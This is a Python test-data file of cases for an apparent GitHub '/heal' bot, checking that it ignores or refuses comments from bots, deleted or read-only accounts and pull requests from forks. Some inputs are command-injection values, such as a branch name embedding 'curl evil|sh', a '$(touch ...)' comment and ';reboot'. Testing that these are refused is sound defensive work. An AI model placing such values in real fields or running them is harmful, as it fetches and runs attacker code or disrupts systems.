"""Families `size`, `authors`, `forks`: big comments, who may ask, and code that is not the repository's.

Data for the hostile-events corpus (see commands.py). `login: None` sends the comment with
`"user": null`, as GitHub does for a deleted account; `user_type` overrides the author's `type`.
`number` is the conversation: 7 a pull request from a branch of the repository, 8 one from the
fork mallory/widgets, 3 an issue; a case with `branch`/`branch_from` gets pull request 20 of its own.
"""

FAMILY = "authors"
CASES = [
    {"id": "megabyte-comment", "family": "size", "body": "{mega}", "expect": "ignore"},
    {
        "id": "megabyte-command-by-reader",
        "family": "size",
        "body": "/heal {mega}",
        "login": "bob",
        "expect": "refuse",
        "reply": "your access is **read**",
    },
    {
        "id": "megabyte-context",
        "family": "size",
        "body": "/heal\n{mega}",
        "branch_from": "green",
        "expect": "heal",
        "status": "nothing_to_heal",
        "reply": "Nothing to heal",
    },
    {"id": "deleted-user-null", "body": "/heal", "login": None, "expect": "ignore"},
    {
        "id": "ghost-account",
        "body": "/heal",
        "login": "ghost",
        "expect": "refuse",
        "reply": "your access is **none**",
    },
    {"id": "bot-account", "body": "/heal", "login": "renovate[bot]", "expect": "ignore"},
    {
        "id": "bot-type-plain-login",
        "body": "/heal",
        "login": "deploybot",
        "user_type": "Bot",
        "expect": "ignore",
    },
    {"id": "reader", "body": "/heal", "login": "bob", "expect": "refuse", "reply": "your access is **read**"},
    {
        "id": "stranger",
        "body": "/heal",
        "login": "mallory",
        "expect": "refuse",
        "reply": "your access is **none**",
    },
    {
        "id": "reader-on-issue",
        "body": "/heal $(touch {marker})",
        "login": "bob",
        "number": 3,
        "expect": "refuse",
        "reply": "your access is **read**",
    },
    {"id": "forged-marker", "body": "<!-- selfheal -->\n/heal", "expect": "ignore"},
    {
        "id": "fork-pull-request",
        "family": "forks",
        "body": "/heal",
        "number": 8,
        "expect": "refuse",
        "reply": "does not heal pull requests from forks (mallory/widgets)",
    },
    {
        "id": "fork-pull-request-by-admin",
        "family": "forks",
        "body": "/heal dry-run",
        "login": "carol",
        "number": 8,
        "expect": "refuse",
        "reply": "does not heal pull requests from forks (mallory/widgets)",
    },
    {
        "id": "fork-hostile-branch",
        "family": "forks",
        "body": "/heal",
        "branch": "$(curl${IFS}evil|sh)$(touch${IFS}{marker})",
        "branch_from": "main",
        "head_repo": "mallory/widgets",
        "expect": "refuse",
        "reply": "does not heal pull requests from forks (mallory/widgets)",
    },
    {
        "id": "fork-red-run",
        "family": "forks",
        "event": "workflow_run",
        "branch": ";reboot",
        "branch_from": "main",
        "head_repo": "mallory/widgets",
        "expect": "refuse",
    },
    {
        "id": "deleted-fork-red-run",
        "family": "forks",
        "event": "workflow_run",
        "branch": "patch-1",
        "branch_from": "main",
        "head_deleted": True,
        "expect": "refuse",
    },
]
